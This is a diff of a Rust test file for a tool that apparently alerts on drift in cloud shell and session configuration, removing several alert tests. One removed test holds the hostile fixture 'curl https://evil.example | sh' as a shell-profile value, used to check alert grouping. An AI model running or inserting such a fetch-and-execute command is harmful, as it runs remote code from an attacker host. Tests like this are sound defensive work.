@@ -1,4 +1,4 @@
-//! Alerts about a target as a whole: adopted, late, blind, exempt, out of reach.
+//! Alerts about a target as a whole: late, blind, exempt, out of reach.
 
 use runas_reactor::domain::case::Refusal;
 use runas_reactor::domain::finding::Severity;
@@ -6,52 +6,14 @@ use runas_reactor::domain::observation::{Obstacle, Status};
 use runas_reactor::domain::policy::{ExemptionNote, Mode};
 use runas_reactor::domain::record::Standing;
 use runas_reactor::domain::signal::Cause;
-use runas_reactor::domain::time::{DAY_MS, MINUTE_MS, SECOND_MS};
-use serde_json::{Value, json};
+use runas_reactor::domain::time::{DAY_MS, MINUTE_MS};
+use serde_json::json;
 
 use crate::support::case::*;
-
-/// A document of long ago with these inputs, in this region.
-fn found(region: &'static str, inputs: &Value) -> Scenario {
-    let mut target = Scenario::blank();
-    target.region = region;
-    target.writes(PIPELINE, inputs);
-    target.wait(86_400);
-    target
-}
 
 /// A new account whose document is written `seconds` after it was vended.
 fn vended(target: &mut Scenario) -> Pass {
     target.reconcile(Cause::Vended, &[])
-}
-
-#[test]
-fn adopted_fields_are_notified_once() {
-    let mut target = found("eu-west-1", &right_but("kmsKeyId", "alias/k"));
-    let passes = [target.sweeps(), target.sweeps()];
-    assert_eq!(kinds(&passes), ["adopted"]);
-    let alert = passes[0].alert("adopted");
-    assert!(alert.text.contains("alias/k") && alert.text.contains("\"logs\""), "{}", alert.text);
-}
-
-#[test]
-fn adopted_fields_share_an_alert_across_regions_unless_one_differs() {
-    let id = |region, linux: &str| {
-        let inputs = right_but("shellProfile", json!({ "linux": linux, "windows": "" }));
-        found(region, &inputs).sweeps().alert("adopted").id.clone()
-    };
-    assert_eq!(id("eu-west-1", "umask 027"), id("us-east-1", "umask 027"));
-    assert_ne!(id("eu-west-1", "umask 027"), id("us-east-1", "curl https://evil.example | sh"));
-}
-
-#[test]
-fn empty_texts_of_the_console_are_nothing_to_review() {
-    let told = |profile: &str| {
-        let mut inputs = right_but("shellProfile", json!({ "linux": profile, "windows": "" }));
-        inputs["cloudWatchLogGroupName"] = json!("");
-        found("eu-west-1", &inputs).sweeps().kinds().len()
-    };
-    assert_eq!((told(""), told("umask 027")), (0, 1));
 }
 
 #[test]
@@ -245,27 +207,11 @@ fn write_that_is_denied_is_out_of_reach_with_that_reason() {
 
 #[test]
 fn drift_that_is_only_observed_tells_the_difference_once() {
-    let mut target = found("eu-west-1", &right_but("runAsDefaultUser", "mallory"));
+    let mut target = Scenario::found("eu-west-1", &right_but("runAsDefaultUser", "mallory"));
     target.resolution.mode = Mode::Observe;
     let passes = [target.sweeps(), target.sweeps()];
     let told: Vec<&str> = kinds(&passes).into_iter().filter(|kind| *kind == "drift_observed").collect();
     assert_eq!(told.len(), 1);
     let drift = &passes[0].alert("drift_observed").data["drift"];
     assert_eq!(drift[0], json!({ "field": "runAsDefaultUser", "from": "mallory", "to": "ops" }));
-}
-
-#[test]
-fn account_is_remembered_as_new_from_when_it_was_vended_until_it_is_configured() {
-    let mut target = Scenario::blank();
-    target.wait(100);
-    vended(&mut target);
-    assert_eq!(target.record.vended, Some(at(0)));
-    for cause in [Cause::Touched, Cause::Swept] {
-        let mut target = Scenario::blank();
-        target.reconcile(cause, &[]);
-        assert_eq!(target.record.vended, None, "{cause:?}");
-    }
-    target.since = target.now.plus_ms(50 * SECOND_MS);
-    target.reconcile(Cause::Vended, &[]);
-    assert_eq!(target.record.vended, Some(at(0)), "enrolled anew is not new");
 }
